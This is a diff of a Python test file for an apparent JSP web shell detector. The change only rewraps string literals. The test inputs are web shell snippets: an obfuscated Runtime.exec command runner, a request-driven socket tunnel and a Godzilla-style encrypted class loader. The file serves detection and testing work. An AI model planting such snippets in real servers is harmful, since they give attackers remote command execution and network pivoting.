@@ -89,7 +89,8 @@ def test_java_unicode_escapes_apply_before_lexing():
 
 
 def test_base64_and_byte_array_names():
-    h = shell('<% Class k = Class.forName(new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU=")));'
+    h = shell('<% Class k = Class.forName(new'
+              ' String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU=")));'
               ' Object r = k.getMethod(new String(new byte[]{101,120,101,99}), String.class)'
               '.invoke(k.getMethod("getRuntime").invoke(null), request.getParameter("x")); %>')
     assert '"java.lang.Runtime"' in h.snippet or h.sink == "Method.invoke"
@@ -169,7 +170,8 @@ def test_file_upload_and_manager():
 
 
 def test_socket_tunnel():
-    h = shell('<% String host = request.getHeader("X-TARGET"); int port = Integer.parseInt(request.getHeader("X-PORT"));'
+    h = shell('<% String host = request.getHeader("X-TARGET"); int port ='
+              ' Integer.parseInt(request.getHeader("X-PORT"));'
               ' java.nio.channels.SocketChannel s = java.nio.channels.SocketChannel.open();'
               ' s.connect(new java.net.InetSocketAddress(host, port)); session.setAttribute("s", s); %>')
     assert h.rule == "jsp.request-to-socket"
@@ -204,7 +206,8 @@ def test_godzilla_loader():
               ' public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");'
               ' c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s);'
               ' }catch (Exception e){return null;} } %>'
-              '<% byte[] data = java.util.Base64.getDecoder().decode(request.getParameter(pass)); data = x(data, false);'
+              '<% byte[] data = java.util.Base64.getDecoder().decode(request.getParameter(pass)); data ='
+              ' x(data, false);'
               ' if (session.getAttribute("payload") == null) { session.setAttribute("payload",'
               ' new X(this.getClass().getClassLoader()).Q(data)); } %>')
     assert h.family == "godzilla" and h.confidence >= 0.85
